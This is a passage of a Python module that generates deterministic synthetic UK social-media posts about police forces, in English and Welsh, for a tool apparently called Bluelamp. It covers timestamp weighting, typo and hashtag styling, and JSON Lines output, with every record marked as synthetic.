    """Map u in [0, 1) to seconds after ``start``, monotonically, with a daily rhythm."""
    buckets = max(1, int(span_s // 3600) + 1)
    cum: list[float] = []
    total = 0.0
    for b in range(buckets):
        width = min(3600.0, span_s - b * 3600.0)
        hour = (start + timedelta(seconds=b * 3600)).hour
        total += _HOUR_WEIGHTS[hour] * max(width, 0.0)
        cum.append(total)

    def warp(u: float) -> float:
        target = u * total
        b = min(bisect.bisect_right(cum, target), buckets - 1)
        lo = cum[b - 1] if b else 0.0
        seg = cum[b] - lo
        frac = (target - lo) / seg if seg > 0 else 0.0
        return min(span_s, (b + frac) * 3600.0)

    return warp


# --------------------------------------------------------------------------- text


def _typo(rng: random.Random, text: str) -> str:
    words = text.split(" ")
    candidates = [i for i, w in enumerate(words) if len(w) >= 4 and w.isalpha()]
    if not candidates:
        return text
    i = rng.choice(candidates)
    w = words[i]
    j = rng.randrange(len(w) - 1)
    swap = rng.random() < 0.6
    # swap two neighbouring letters, or drop one
    words[i] = w[:j] + w[j + 1] + w[j] + w[j + 2 :] if swap else w[:j] + w[j + 1 :]
    return " ".join(words)


def _place_tag(place: _Place) -> str:
    return "#" + "".join(ch for ch in place.name if ch.isalnum())


def _style_en(rng: random.Random, text: str, kind: str, place: _Place | None) -> str:
    formal = text[:7].isupper()  # appeals like "MISSING: ..." keep their case
    if not formal and rng.random() < 0.55:
        text = text.lower()
    if rng.random() < 0.2:
        for old, new in _ABBREVIATIONS:
            text = text.replace(old, new)
    if not formal and rng.random() < 0.12:
        text = _typo(rng, text)
    if rng.random() < 0.3:
        tags = [rng.choice(_HASHTAGS[kind])]
        if place is not None and rng.random() < 0.5:
            tags.append(_place_tag(place))
        text = f"{text} {' '.join(tags)}"
    if rng.random() < (0.5 if kind == "praise" else 0.2):
        text = f"{text} {rng.choice(_EMOJI[kind])}"
    return text


# --------------------------------------------------------------------------- public API


def generate_posts(
    n: int, *, seed: int = 7, end: datetime | None = None, days: int = 30
) -> Iterator[dict[str, object]]:
    """Yield ``n`` synthetic posts in Bluelamp's import format, oldest first.

    ``created_at`` values fall within the ``days`` days ending at ``end`` (default
    :data:`DEFAULT_END`; a naive ``end`` is taken as UTC). The same ``n``, ``seed``,
    ``end`` and ``days`` always give the same records.
    """
    if n < 0:
        raise ValueError("n must be >= 0")
    if days <= 0:
        raise ValueError("days must be > 0")
    end_utc = DEFAULT_END if end is None else end
    end_utc = end_utc.replace(tzinfo=UTC) if end_utc.tzinfo is None else end_utc.astimezone(UTC)
    span_s = float(days * 86400)
    start = end_utc - timedelta(seconds=span_s)
    start_epoch = start.timestamp()
    first_second = math.ceil(start_epoch)
    warp = _time_warp(start, span_s)

    rng = random.Random(seed)
    rand = rng.random
    choice = rng.choice
    authors = [_make_author(rng) for _ in range(_AUTHOR_POOL)]
    prefixes = [_url_prefix(a) for a in authors]
    width = max(6, len(str(n)))
    minute_cache: dict[int, str] = {}

    for i in range(n):
        a_idx = int(rand() * _AUTHOR_POOL)
        author = authors[a_idx]
        kind = _KIND_TABLE[int(rand() * _TABLE_SIZE)]
        force = FORCES[author.force if rand() < _HOME_FORCE_RATE else _weighted_force(rng)]
        place = force.places[int(rand() * len(force.places))]
        welsh = author.welsh and force.welsh and kind != "hostile" and rand() < _WELSH_POST_RATE
        if kind == "chatter":
            placed = rand() < _CHATTER_PLACED_RATE
            if welsh:
                templates = _CY_CHATTER_PLACED if placed else _CY_CHATTER_PLACELESS
            else:
                templates = _EN_CHATTER_PLACED if placed else _EN_CHATTER_PLACELESS
        else:
            placed = True
            templates = _CY[kind] if welsh else _EN[kind]
        text = templates[int(rand() * len(templates))].format_map(_Slots(rng, force, place))

        if kind == "hostile":
            pass  # hostile text is kept exactly as written: it is the test payload
        elif welsh:
            if rand() < 0.25:
                text = f"{text} {choice(_EMOJI[kind])}"
            if rand() < 0.2:
                text = (
                    f"{text} #{''.join(ch for ch in place.cy_name or place.name if ch.isalnum())}"
                )
        else:
            text = _style_en(rng, text, kind, place if placed else None)
            if kind in _MENTION_KINDS and "@" not in text and rand() < 0.25:
                text = f"{text} @{force.handle}"

        platform = author.platform
        post_id = f"demo-{i:0{width}d}"
        if platform == "reddit":
            if rand() < 0.12:
                text = f"{text}\n\n{choice(_REDDIT_EDITS)}"
            subs = _PLACE_SUBREDDITS[place.name] if placed else FORCES[author.force].subreddits
            url = f"https://reddit.example.invalid/r/{choice(subs)}/comments/{post_id}"
        else:
            url = prefixes[a_idx] + post_id

        second = math.floor(start_epoch + warp((i + rand()) / n))
        if second < first_second:
            second = first_second
        minute, sec = divmod(second, 60)
        stamp = minute_cache.get(minute)
        if stamp is None:
            stamp = datetime.fromtimestamp(minute * 60, UTC).strftime("%Y-%m-%dT%H:%M:")
            minute_cache[minute] = stamp

        record: dict[str, object] = {
            "platform": platform,
            "id": post_id,
            "text": text,
            "created_at": f"{stamp}{sec:02d}Z",
            "author_handle": author.handle,
            "author_name": author.name,
            "url": url,
            "lang": "cy" if welsh else "en",
        }
        if placed and rand() < _GEOTAG_RATE:
            record["lat"] = round(place.lat + (rand() - 0.5) * 0.024, 5)
            record["lon"] = round(place.lon + (rand() - 0.5) * 0.04, 5)
        record["synthetic"] = True
        record["demo_kind"] = kind
        record["demo_force"] = force.name if placed else None
        yield record


def write_jsonl(path: Path, n: int, *, seed: int = 7) -> int:
    """Write ``n`` synthetic posts to ``path`` as UTF-8 JSON Lines; return the count."""
    count = 0
    with Path(path).open("w", encoding="utf-8", newline="\n") as fh:
        for record in generate_posts(n, seed=seed):
            fh.write(json.dumps(record, ensure_ascii=False))
            fh.write("\n")
            count += 1
    return count


def main(argv: Sequence[str] | None = None) -> int:
    """``python -m bluelamp.demo.generator OUT.jsonl [-n N] [--seed S]``."""
    parser = argparse.ArgumentParser(
        prog="python -m bluelamp.demo.generator",
        description="Write synthetic (not real) UK social-media posts as JSON Lines.",
    )
    parser.add_argument("out", type=Path, help="output .jsonl file")
    parser.add_argument("-n", type=int, default=1000, help="number of posts (default 1000)")
    parser.add_argument("--seed", type=int, default=7, help="random seed (default 7)")
    args = parser.parse_args(argv)
    count = write_jsonl(args.out, args.n, seed=args.seed)
    print(f"wrote {count} synthetic posts to {args.out}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
